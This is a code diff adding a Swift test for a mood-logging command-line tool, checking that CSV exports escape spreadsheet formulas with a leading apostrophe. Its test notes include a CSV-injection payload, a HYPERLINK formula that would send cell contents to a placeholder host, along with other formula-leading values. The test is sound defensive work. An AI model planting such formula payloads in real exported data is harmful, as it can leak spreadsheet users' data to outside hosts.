@@ -86,4 +86,17 @@ import TestSupport
         #expect(lines.first == #""Timestamp","Time Zone","Rating","Minimum Allowed Rating","Maximum Allowed Rating","Note","Source""#)
         #expect(lines.dropFirst().first == #""Monday, March 2, 2026 at 8:15:00 AM Central European Standard Time","Europe/Paris","4","1","7","slept badly","Wellness""#)
     }
+
+    @Test func csvExportsWriteFormulaCellsAsText() throws {
+        let vault = try CLIVault()
+        try vault.ok(["mood", "4", "--note", "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")", "--at", "2026-03-02T08:00:00+01:00"])
+        try vault.ok(["mood", "5", "--note", "@SUM(1+1)", "--at", "2026-03-03T08:00:00+01:00"])
+        try vault.ok(["mood", "6", "--note=-2+3", "--at", "2026-03-04T08:00:00+01:00"])
+        let export = vault.root + "/moods.csv"
+        try vault.ok(["export", "moods", export])
+        let text = try String(contentsOfFile: export, encoding: .utf8)
+        #expect(text.contains(#""'=HYPERLINK(""http://x.example/?""&A1"#), "\(text)")
+        #expect(text.contains(#""'@SUM(1+1)""#) && text.contains(#""'-2+3""#), "\(text)")
+        #expect(!text.contains(#","=HYPERLINK"#) && !text.contains(#","@SUM"#) && !text.contains(#","-2+3"#), "\(text)")
+    }
 }
